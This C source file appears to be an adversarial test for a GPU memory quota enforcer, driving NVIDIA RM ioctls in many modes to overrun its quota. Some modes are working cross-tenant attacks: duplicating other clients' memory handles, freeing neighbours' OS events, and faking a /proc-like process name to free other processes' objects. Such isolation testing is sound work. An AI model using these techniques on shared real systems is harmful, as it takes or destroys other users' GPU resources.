// SPDX-License-Identifier: GPL-2.0
/*
 * raw.c - a program without libcuda or a dynamic loader that takes all the video memory it can get, by every call that
 * makes, shares or keeps some. It stops at three times its quota, which is more than enough to be caught. What it was
 * granted plainly before, and that it was refused more after, is what its report begins with.
 */
#include <dirent.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/wait.h>

#include "rm.h"

static struct rm rm;
static rm_way way = rm_plain;

/* Of this process and its children. */
static struct sums {
	uint64_t claimed, refused, started;
	long last;
} *sums;

#define FULL (sums->claimed >= 3 * quota)

typedef long (*maker)(uint64_t size, uint32_t *handle);

static long by_alloc(uint64_t size, uint32_t *handle)
{
	return rm_memory(&rm, way, size, handle);
}

static long by_short_alloc(uint64_t size, uint32_t *handle)
{
	NV_MEMORY_ALLOCATION_PARAMS params = rm_memory_params(&rm, size);
	NVOS21_PARAMETERS call = { .hRoot = rm.client, .hObjectParent = rm.device, .hObjectNew = *handle,
				   .hClass = NV01_MEMORY_LOCAL_USER, .pAllocParms = (uintptr_t)&params, .status = ~0u };

	return way(rm.ctl, NV_ESC_RM_ALLOC, &call, sizeof(call)) < 0 ? -1 : (long)call.status;
}

static uint32_t heap_function = 2, heap_attr;

static long by_heap(uint64_t size, uint32_t *handle)
{
	static NVOS32_PARAMETERS *call;

	call = call ?: rm_low(sizeof(*call));
	*call = (NVOS32_PARAMETERS){ .hRoot = rm.client, .hObjectParent = rm.device, .function = heap_function,
				     .status = ~0u, .owner = rm.client, .hMemory = *handle, .flags = RM_FLAGS,
				     .attr = RM_ATTR | heap_attr, .size = size };
	if (heap_function == 14) /* ALLOC_SIZE_RANGE keeps it elsewhere */
		memcpy((char *)call + 80, &size, sizeof(size));
	if (way(rm.ctl, NV_ESC_RM_VID_HEAP_CONTROL, call, sizeof(*call)) < 0)
		return -1;
	*handle = call->hMemory;
	return call->status;
}

static uint32_t old_class = NV01_MEMORY_LOCAL_USER;

static long by_old_alloc(uint64_t size, uint32_t *handle)
{
	NVOS02_PARAMETERS_WITH_FD call = { .hRoot = rm.client, .hObjectParent = rm.device, .hObjectNew = *handle,
					   .hClass = old_class, .limit = size - 1, .status = ~0u, .fd = -1 };

	if (way(rm.card, NV_ESC_RM_ALLOC_MEMORY, &call, sizeof(call)) < 0)
		return -1;
	return call.status;
}

/* RM_ALLOC_OBJECT has no parameters; nothing but the size of a struct says what it is. */
static long by_bare_alloc(uint64_t size, uint32_t *handle)
{
	uint32_t call[5] = { rm.client, rm.device, *handle, NV01_MEMORY_LOCAL_USER, ~0u };

	(void)size;
	return way(rm.ctl, 0x28, call, sizeof(call)) < 0 ? -1 : (long)call[4];
}

static long by_alloc_under_subdevice(uint64_t size, uint32_t *handle)
{
	NV_MEMORY_ALLOCATION_PARAMS params = rm_memory_params(&rm, size);

	return rm_alloc(&rm, way, rm.subdevice, NV01_MEMORY_LOCAL_USER, &params, handle);
}

static long by_rms_handle(uint64_t size, uint32_t *handle)
{
	*handle = 0;
	return by_alloc(size, handle);
}

static bool took(long status, uint64_t size)
{
	if (status == NV_OK) {
		__atomic_add_fetch(&sums->claimed, size, __ATOMIC_RELAXED);
	} else {
		__atomic_add_fetch(&sums->refused, 1, __ATOMIC_RELAXED);
		sums->last = status;
	}
	return status == NV_OK;
}

/* From half the quota down to a page, until everything is refused. */
static void take_all(maker make)
{
	for (uint64_t size = quota / 2; size >= 4 * KIB; size /= 2) {
		for (int tries = 0; tries < 64 && !FULL; tries++) {
			uint32_t handle = ++rm.last;

			if (!took(make(size, &handle), size))
				break;
		}
	}
}

/* What was freed leaves something behind that keeps the memory. */
static void take_and_free(maker make, void (*before_free)(uint32_t handle))
{
	for (int i = 0; i < 6 && !FULL; i++) {
		uint32_t handle = ++rm.last;

		if (!took(make(quota / 2, &handle), quota / 2))
			continue;
		before_free(handle);
		rm_free(&rm, handle);
	}
	take_all(make);
}

static struct rm other;

static long second_handle(struct rm *to, uint32_t parent, uint32_t source_client, uint32_t source)
{
	NVOS55_PARAMETERS call = { .hClient = to->client, .hParent = parent, .hObject = ++to->last,
				   .hClientSrc = source_client, .hObjectSrc = source, .status = ~0u };

	return way(to->ctl, NV_ESC_RM_DUP_OBJECT, &call, sizeof(call)) < 0 ? -1 : (long)call.status;
}

static void keep_by_dup(uint32_t handle)
{
	second_handle(&rm, rm.device, rm.client, handle);
}

static void keep_by_other_client(uint32_t handle)
{
	second_handle(&other, other.device, rm.client, handle);
}

/* NV0000_CTRL_CMD_OS_UNIX_EXPORT_OBJECT_TO_FD: {type, {device, parent, object}, fd, flags} */
static void keep_by_descriptor(uint32_t handle)
{
	uint32_t params[6] = { 1, rm.device, rm.device, handle, (uint32_t)open("/dev/nvidiactl", O_RDWR), 0 };

	rm_control(&rm, way, rm.client, rm.client, 0x3d05, params, sizeof(params));
}

/* Memory that a semaphore surface is given has another handle, inside RM: {memory, submitted, flags} */
static void keep_by_surface(uint32_t handle)
{
	uint32_t params[4] = { handle }, surface = ++rm.last;

	rm_alloc(&rm, way, rm.device, 0xda, params, &surface);
}

/* Share another client's object with ours: RM does not ask whose it is. */
static void share(uint32_t source_client, uint32_t source)
{
	NVOS57_PARAMETERS call = { .hClient = source_client, .hObject = source,
				   .sharePolicy = { .target = rm.client, .accessMask = RS_ACCESS_DUP_OBJECT,
						    .type = RS_SHARE_TYPE_CLIENT,
						    .action = RS_SHARE_ACTION_FLAG_COMPOSE } };

	way(rm.ctl, NV_ESC_RM_SHARE, &call, sizeof(call));
}

static unsigned int reached;

/* Claim that every client there is has memory at every handle, and take it: RM asks who may. */
static void steal(bool shared)
{
	for (uint32_t back = 1; back <= 32; back++) {
		for (uint32_t object = 0x5c000001; object < 0x5c000040 && !FULL; object++) {
			if (shared)
				share(rm.client - back, object);
			if (second_handle(&rm, rm.device, rm.client - back, object) == NV_OK)
				reached++;
		}
	}
}

/* Free the neighbours' OS events, and take their numbers: RM keeps them by client and number, and asks nobody. */
static void os_events(void)
{
	for (uint32_t back = 1; back <= 32; back++) {
		for (uint32_t number = 3; number < 64; number++) {
			static const uint32_t calls[] = { NV_ESC_FREE_OS_EVENT, NV_ESC_ALLOC_OS_EVENT };

			for (int i = 0; i < 2; i++) {
				nv_ioctl_os_event_t call = { .hClient = rm.client - back, .fd = number, .Status = ~0u };

				if (way(rm.card, calls[i], &call, sizeof(call)) == 0 && call.Status == NV_OK)
					reached++;
			}
		}
	}
}

/* By the call for context DMAs RM makes any class; a TSG's parameters fit into those that it makes of the call. */
static void by_context_dma(void)
{
	uint32_t memory = ++rm.last;

	rm_memory(&rm, rm_plain, 64 * KIB, &memory);
	for (int i = 0; i < 16; i++) {
		NVOS39_PARAMETERS call = { .hObjectParent = rm.client, .hSubDevice = 0, .hObjectNew = ++rm.last,
					   .hClass = KEPLER_CHANNEL_GROUP_A, .hMemory = memory, .limit = 1,
					   .status = ~0u };

		if (way(rm.ctl, NV_ESC_RM_ALLOC_CONTEXT_DMA2, &call, sizeof(call)) == 0 && call.status == NV_OK)
			reached++;
	}
	rm_free(&rm, memory);
}

/* RM has address spaces for a whole card: processes that map into none of their own are there. */
static void whole_cards_spaces(void)
{
	for (uint32_t index = 1; index < 8; index++) {
		uint32_t params[16] = { index }, space = ++rm.last;

		if (index != 3 && rm_alloc(&rm, way, rm.device, FERMI_VASPACE_A, params, &space) == NV_OK)
			reached++;
	}
}

static void many(int count, bool orphans)
{
	for (int i = 0; i < count; i++) {
		pid_t pid = fork();

		if (!pid) {
			if (orphans && (setsid(), fork()))
				_exit(0);
			long status = rm_try_open(&rm);

			if (took(status, 0))
				__atomic_add_fetch(&sums->started, 1, __ATOMIC_RELAXED);
			take_all(by_alloc);
			hold();
		}
		if (orphans)
			waitpid(pid, NULL, 0);
	}
	for (int waits = 0; waits < 150 && sums->started < (uint64_t)count; waits++)
		usleep(20000);
	if (sums->started < (uint64_t)count)
		report("cannot start: %d of %d processes have a device (RM says %#lx)", (int)sums->started, count,
		       sums->last), exit(4);
	usleep(300000);
}

static void clients(void)
{
	for (int i = 0; i < 32; i++) {
		struct rm before = rm;

		if (!took(rm_try_open(&rm), 0)) { /* a device needs room too */
			rm = before;
			break;
		}
		take_all(by_alloc);
	}
}

/* Give everything back from above, take it again, and so on. */
static void churn(void)
{
	for (int i = 0; i < 10; i++) {
		NV0080_ALLOC_PARAMETERS device = { .hClientShare = rm.client };
		NV2080_ALLOC_PARAMETERS subdevice = { 0 };

		take_all(by_alloc);
		rm_free(&rm, rm.device);
		sums->claimed = 0;
		rm_alloc(&rm, way, rm.client, NV01_DEVICE_0, &device, &rm.device);
		rm_alloc(&rm, way, rm.device, NV20_SUBDEVICE_0, &subdevice, &rm.subdevice);
	}
	take_all(by_alloc);
}

/* A file that was there before the process knew it: another process's, by a socket or over an exec. */
static void handed_down(char **argv)
{
	char fds[3][16];

	snprintf(fds[0], 16, "%d", rm.ctl);
	snprintf(fds[1], 16, "%u", rm.client);
	snprintf(fds[2], 16, "%u", rm.device);
	execl("/proc/self/exe", argv[0], "heir", argv[2], argv[3], fds[0], fds[1], fds[2], NULL);
}

/* Address space costs page tables, which lie on the card: much of it, and one page mapped over and over. */
static void page_tables(void)
{
	struct { uint32_t index, flags; uint64_t size, start, limit; uint32_t big; uint64_t base; uint32_t pasid; } va = { 0 };
	struct { uint32_t client, device, dma, memory; uint64_t offset, length; uint32_t flags, flags2, kind, pad;
		 uint64_t at; uint32_t status, pad2; } map;
	uint32_t space = ++rm.last, page = ++rm.last, range = 0;
	NV_MEMORY_ALLOCATION_PARAMS params = rm_memory_params(&rm, 64 * KIB);

	params.attr |= 1 << 23; /* pages of 4 KiB */
	rm_alloc(&rm, way, rm.device, NV01_MEMORY_LOCAL_USER, &params, &page);
	rm_alloc(&rm, way, rm.device, FERMI_VASPACE_A, &va, &space);
	for (int lazy = 0; lazy < 2; lazy++) {
		for (int i = 0; i < 8; i++) {
			params = (NV_MEMORY_ALLOCATION_PARAMS){ .owner = rm.client, .flags = 0x88001 | (lazy ? 0x400 : 0),
								.attr = 1 << 23, .size = 64ull << 30,
								.hVASpace = space };
			range = ++rm.last;
			took(rm_alloc(&rm, way, rm.device, NV50_MEMORY_VIRTUAL, &params, &range), 0);
		}
	}
	for (uint64_t i = 0; i < 16384; i++) {
		map = (typeof(map)){ rm.client, rm.device, range, page, .length = 4 * KIB, .flags = 1 << 15,
				     .at = params.offset + i * 2 * MIB, .status = ~0u };
		if (way(rm.ctl, NV_ESC_RM_MAP_MEMORY_DMA, &map, sizeof(map)) < 0 || map.status != NV_OK)
			break;
		__atomic_add_fetch(&sums->started, 1, __ATOMIC_RELAXED);
	}
}

/* Many small pieces, of the smallest pages and at places of one's own: RM takes more of the card for each. */
static void small_pieces(void)
{
	for (int i = 0; i < 50000 && !FULL; i++) {
		NV_MEMORY_ALLOCATION_PARAMS params = rm_memory_params(&rm, 4 * KIB);
		uint32_t handle = ++rm.last;

		params.attr |= 1 << 23; /* pages of 4 KiB */
		if (!took(rm_alloc(&rm, way, rm.device, NV01_MEMORY_LOCAL_USER, &params, &handle), 4 * KIB))
			break;
	}
	for (uint64_t i = 0; i < 64; i++) {
		NV_MEMORY_ALLOCATION_PARAMS params = rm_memory_params(&rm, 64 * KIB);
		uint32_t handle = ++rm.last;

		params.flags |= 0x110; /* FIXED_ADDRESS_ALLOCATE, ALIGNMENT_FORCE */
		params.offset = (i + 8) << 28;
		params.alignment = 256 * MIB;
		took(rm_alloc(&rm, way, rm.device, NV01_MEMORY_LOCAL_USER, &params, &handle), 64 * KIB);
	}
}

/* Address spaces: each has its first page tables on the card. */
static void address_spaces(void)
{
	struct { uint32_t index, flags; uint64_t size, start, limit; uint32_t big; uint64_t base; uint32_t pasid; } space;

	for (int i = 0; i < 3000; i++) {
		uint32_t handle = ++rm.last;

		memset(&space, 0, sizeof(space));
		if (!took(rm_alloc(&rm, way, rm.device, FERMI_VASPACE_A, &space, &handle), 0))
			break;
		sums->started++;
	}
}

/* A quarter in the smallest pages, mapped for the processor again and again: the card's window has page tables too. */
static void windows(void)
{
	struct { uint32_t client, device, memory, pad; uint64_t offset, length, address; uint32_t status, flags; int fd, pad2; } map;
	NV_MEMORY_ALLOCATION_PARAMS params = rm_memory_params(&rm, quota / 8);
	uint32_t memory = ++rm.last;
	char own[32], card[64] = "";

	snprintf(own, sizeof(own), "/proc/self/fd/%d", rm.card);
	if (readlink(own, card, sizeof(card) - 1) < 0)
		return;
	params.attr |= 1 << 23;
	if (!took(rm_alloc(&rm, way, rm.device, NV01_MEMORY_LOCAL_USER, &params, &memory), quota / 8))
		return;
	for (int i = 0; i < 400; i++) {
		map = (typeof(map)){ rm.client, rm.device, memory, .length = quota / 8, .status = ~0u,
				     .fd = open(card, O_RDWR) };
		if (rm_plain(rm.ctl, 0x4e, &map, sizeof(map)) < 0 || map.status != NV_OK)
			break;
		sums->started++;
	}
}

/* By a name that looks like a line of /proc, be taken for the neighbour, and free what it has. */
static void named(void)
{
	DIR *all = opendir("/proc");
	struct dirent *entry;

	while (all && (entry = readdir(all))) {
		int pid = atoi(entry->d_name), own = getpid();
		char name[32];

		if (pid < 2 || pid == own || pid == getppid())
			continue;
		snprintf(name, sizeof(name), "\x0cTgid:\t%d", pid);
		prctl(PR_SET_NAME, name);
		for (int fd = 3; fd < 24; fd++) {
			for (uint32_t back = 1; back <= 24; back++) {
				NVOS00_PARAMETERS call = { .hRoot = rm.client - back, .hObjectOld = rm.client - back };

				rm_plain(fd, NV_ESC_RM_FREE, &call, sizeof(call));
			}
		}
	}
}

/* Each TSG takes buffers of the card that have no handle, the more the more its engine can do. */
static void tsgs(void)
{
	for (uint32_t i = 0; i < 64; i++) {
		NV_CHANNEL_GROUP_ALLOCATION_PARAMETERS params = { .engineType = i % 2 ? 1 : 9 };
		uint32_t handle = ++rm.last;

		took(rm_alloc(&rm, way, rm.device, KEPLER_CHANNEL_GROUP_A, &params, &handle), 0);
	}
}

/* Devices, each of a client of its own, with the address space that comes of asking for a piece of it. */
static void devices(void)
{
	struct { uint64_t offset, limit; uint32_t space, pad; } range = { .limit = ~0ull };
	struct rlimit files;
	struct rm one;

	getrlimit(RLIMIT_NOFILE, &files);
	files.rlim_cur = files.rlim_max; /* it is not to run out of descriptors first */
	setrlimit(RLIMIT_NOFILE, &files);
	for (int i = 0; i < 600; i++) {
		uint32_t handle;

		if (!took(rm_try_open(&one), 0))
			break;
		handle = ++one.last;
		rm_alloc(&one, way, one.device, 0x70, &range, &handle);
		sums->started++;
	}
}

/* Hold all there is in four parts, give one back and take it again for as long as that works; tell how many are held. */
static void hungry(void)
{
	uint64_t quarter = quota / 4 - 2 * MIB; /* a device takes some too */
	uint32_t parts[4] = { 0 };

	for (int held = 0, at = 0;; at = (at + 1) % 4) {
		uint32_t handle = ++rm.last;

		if (parts[at] && held == 4)
			held -= rm_free(&rm, parts[at]) == NV_OK, parts[at] = 0;
		if (!parts[at] && took(rm_memory(&rm, rm_plain, quarter, &handle), quarter))
			parts[at] = handle, held++;
		report("granted %llu, holds %d quarters, refused %llu times (last %#lx)", (unsigned long long)sums->claimed,
		       held, (unsigned long long)sums->refused, sums->last);
		usleep(10000);
	}
}

static const struct {
	const char *mode;
	rm_way way;
	maker make;
} straight[] = {
	{ "alloc", rm_plain, by_alloc },
	{ "short-alloc", rm_plain, by_short_alloc },
	{ "heap", rm_plain, by_heap },
	{ "old-alloc", rm_plain, by_old_alloc },
	{ "bare-alloc", rm_plain, by_bare_alloc },
	{ "under-subdevice", rm_plain, by_alloc_under_subdevice },
	{ "rms-handle", rm_plain, by_rms_handle },
	{ "wrapped", rm_wrapped, by_alloc },
	{ "wrapped-heap", rm_wrapped, by_heap },
	{ "odd-number", rm_odd, by_alloc },
	{ "high-bits", rm_high, by_alloc },
	{ "i386", rm_i386, by_alloc },
	{ "i386-heap", rm_i386, by_heap },
	{ "x32", rm_x32, by_alloc },
};

int main(int argc, char **argv)
{
	const char *mode = start(argc, argv);
	uint64_t granted, by_this;

	sums = mmap(NULL, sizeof(*sums), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (!strcmp(mode, "heir")) {
		rm = (struct rm){ .ctl = atoi(argv[4]), .last = 0x5d000000 };
		rm.client = strtoul(argv[5], NULL, 0);
		rm.device = strtoul(argv[6], NULL, 0);
	} else {
		rm_open(&rm);
	}
	granted = rm_granted(&rm);
	for (size_t i = 0; i < sizeof(straight) / sizeof(straight[0]); i++) {
		if (!strcmp(mode, straight[i].mode)) {
			way = straight[i].way;
			take_all(straight[i].make);
		}
	}
	if (!strcmp(mode, "heap-any")) {
		heap_attr = 3u << 25;
		take_all(by_heap);
	} else if (!strcmp(mode, "heap-range")) {
		heap_function = 14;
		take_all(by_heap);
	} else if (!strcmp(mode, "physical")) {
		static const uint32_t by_address[] = { 0xc2, 0x82, 0x83, 0x3f };

		for (int i = 0; i < 4; i++) {
			old_class = by_address[i];
			take_all(by_old_alloc);
		}
	} else if (!strcmp(mode, "dup")) {
		take_and_free(by_alloc, keep_by_dup);
	} else if (!strcmp(mode, "dup-client")) {
		rm_open(&other);
		take_and_free(by_alloc, keep_by_other_client);
	} else if (!strcmp(mode, "export")) {
		take_and_free(by_alloc, keep_by_descriptor);
	} else if (!strcmp(mode, "steal") || !strcmp(mode, "share")) {
		steal(!strcmp(mode, "share"));
		take_all(by_alloc);
	} else if (!strcmp(mode, "os-events")) {
		os_events();
	} else if (!strcmp(mode, "context-dma")) {
		by_context_dma();
	} else if (!strcmp(mode, "whole-spaces")) {
		whole_cards_spaces();
	} else if (!strcmp(mode, "processes")) {
		many(12, false);
	} else if (!strcmp(mode, "orphans")) {
		many(6, true);
	} else if (!strcmp(mode, "clients")) {
		clients();
	} else if (!strcmp(mode, "churn")) {
		churn();
	} else if (!strcmp(mode, "tables")) {
		page_tables();
	} else if (!strcmp(mode, "small")) {
		small_pieces();
	} else if (!strcmp(mode, "spaces")) {
		address_spaces();
	} else if (!strcmp(mode, "devices")) {
		devices();
	} else if (!strcmp(mode, "windows")) {
		windows();
	} else if (!strcmp(mode, "named")) {
		named();
	} else if (!strcmp(mode, "surface")) {
		take_and_free(by_alloc, keep_by_surface);
	} else if (!strcmp(mode, "tsgs")) {
		tsgs();
	} else if (!strcmp(mode, "hungry")) {
		hungry();
	} else if (!strcmp(mode, "exec")) {
		handed_down(argv);
	}
	by_this = sums->claimed;
	sums->claimed = 0;
	way = rm_plain;
	take_all(by_alloc); /* to the limit, whatever became of the attack */
	report("granted %llu, claimed %llu by this and %llu plainly after, refused %llu times (last %#lx), reached %u",
	       (unsigned long long)granted, (unsigned long long)by_this, (unsigned long long)sums->claimed,
	       (unsigned long long)sums->refused, sums->last, reached);
	hold();
}
